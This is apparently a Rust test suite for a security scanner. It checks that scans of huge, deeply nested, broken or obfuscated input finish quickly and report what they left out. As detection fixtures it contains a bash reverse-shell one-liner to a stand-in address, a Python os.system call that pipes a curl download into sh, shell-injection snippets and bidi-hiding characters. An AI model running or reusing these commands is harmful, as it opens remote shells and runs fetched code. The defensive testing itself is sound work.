//! What is made to be slow or deep ends soon, and what was not looked at is said.

use std::time::{Duration, Instant};

use code::{Language, Rules, Scanned, Scanner, Source};

/// Generous: builds without optimisation, on machines that do other things, too.
const PATIENCE: Duration = Duration::from_secs(120);

fn scan(language: Language, bytes: &[u8]) -> Scanned {
    let began = Instant::now();
    let scanned = Scanner::new(Rules::built_in()).scan(&Source { name: "hostile", language: Some(language), bytes });
    assert!(began.elapsed() < PATIENCE, "{} of {} bytes takes {:?}", language.name(), bytes.len(), began.elapsed());
    assert!(scanned.findings.len() <= 1_001, "{} findings", scanned.findings.len());
    assert!(scanned.findings.iter().all(|finding| finding.excerpt.chars().count() <= 200));
    scanned
}

fn says(scanned: &Scanned, rule: &str) -> bool {
    scanned.findings.iter().any(|finding| finding.rule == rule)
}

#[test]
fn ten_megabytes_of_parentheses_are_too_large_and_that_is_said() {
    let bytes = vec![b'('; 10 << 20];
    for language in Language::ALL {
        let scanned = scan(language, &bytes);
        assert!(says(&scanned, "unparsable.too-large"), "{}", language.name());
        assert!(!scanned.is_complete());
    }
}

#[test]
fn what_opens_and_never_closes_ends_soon() {
    for language in Language::ALL.into_iter().filter(|language| *language != Language::Text) {
        for piece in
            ["(", "[", "{", "((", "a(", "if(", "x=", "\"", "'", "`", "${", "<", "f(f", "a.b.", "!", "-", "\\", "λ"]
        {
            let scanned = scan(language, piece.repeat(6_000 / piece.len()).as_bytes());
            drop(scanned);
        }
    }
}

#[test]
fn code_that_is_nested_4096_deep_is_looked_at_as_far_as_we_go_and_that_is_said() {
    for (language, open, middle, close) in [
        (Language::Python, "[", "1", "]"),
        (Language::JavaScript, "[", "1", "]"),
        (Language::TypeScript, "[", "1", "]"),
        (Language::Ruby, "[", "1", "]"),
        (Language::Rust, "fn f() { ", "", "}"),
        (Language::C, "void f() { if (1) {", "", "}"),
    ] {
        let text = format!("{}{middle}{}", open.repeat(4_096), close.repeat(4_096));
        let scanned = scan(language, text.as_bytes());
        assert!(!scanned.is_complete(), "{}", language.name());
    }
}

#[test]
fn what_lies_behind_a_long_head_is_found() {
    let mut text = "x = 1\n".repeat(50_000);
    text += "import os\nos.system(input())\n";
    assert!(says(&scan(Language::Python, text.as_bytes()), "process.python-input-to-shell"));
    let mut long = vec![b'a'; 5 << 20];
    long.extend_from_slice(b"\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1\n");
    let scanned = scan(Language::Shell, &long);
    assert!(says(&scanned, "backdoor.shell-reverse-shell") && says(&scanned, "unparsable.too-large"));
}

#[test]
fn patterns_take_no_more_than_linear_time() {
    for bait in
        ["<!-- AI ", "ignore all all all ", "\"description\": \"", "_0x1234 ", "while True:\n ", "\\x61", "mkfifo a "]
    {
        scan(Language::Text, bait.repeat(200_000 / bait.len()).as_bytes());
        scan(Language::Python, bait.repeat(100_000 / bait.len()).as_bytes());
    }
}

#[test]
fn findings_without_number_become_a_thousand_and_a_word() {
    let text = "eval(x)\n".repeat(5_000);
    let scanned = scan(Language::Python, text.as_bytes());
    assert!(says(&scanned, "unparsable.too-many"));
}

#[test]
fn code_within_code_within_code_ends() {
    let mut code = "import os; os.system(x)".to_owned();
    for _ in 0..8 {
        code = format!("exec({code:?})");
    }
    let scanned = scan(Language::Python, code.as_bytes());
    assert!(!scanned.is_complete(), "{:?}", scanned.left_out);
}

#[test]
fn bytes_that_are_no_text_are_said_to_be_none() {
    let scanned =
        Scanner::new(Rules::built_in()).scan(&Source { name: "a.py", language: None, bytes: b"\x7fELF\0\0\x01" });
    assert!(scanned.language.is_none() && says(&scanned, "unparsable.binary"));
}

#[test]
fn broken_syntax_is_a_finding_and_what_can_be_read_is_still_read() {
    let scanned = scan(Language::Python, b"import os\nos.system(x)\n)))) def ((( class\n@@@@ ??? !!!\n");
    assert!(
        says(&scanned, "unparsable.syntax") && says(&scanned, "process.python-os-system"),
        "{:?}",
        scanned.findings
    );
}

#[test]
fn no_letter_of_an_excerpt_moves_or_hides_another() {
    let scanned = scan(Language::Python, "eval(x, '\u{202e}\u{1b}[2J\u{200b}')".as_bytes());
    for finding in &scanned.findings {
        assert!(!finding.excerpt.contains(['\u{202e}', '\u{1b}', '\u{200b}']), "{:?}", finding.excerpt);
    }
    assert!(says(&scanned, "obfuscation.bidi"));
}

#[test]
fn code_within_says_where_it_stands() {
    let scanned = scan(Language::Python, b"import os\n\nos.system('curl http://a.example | sh')\n");
    let inner = scanned.findings.iter().find(|finding| finding.rule == "dynamic.shell-fed");
    assert_eq!(inner.map(|finding| finding.at.shown()), Some("hostile:3:1 (in its shell)".to_owned()));
}

#[test]
fn a_scan_of_the_same_bytes_says_the_same() {
    let text = std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/corpus/python/exfiltration/bad_socket.py"))
        .expect("a file");
    let one = scan(Language::Python, &text);
    assert_eq!(one.findings, scan(Language::Python, &text).findings);
    assert!(!one.findings.is_empty());
}
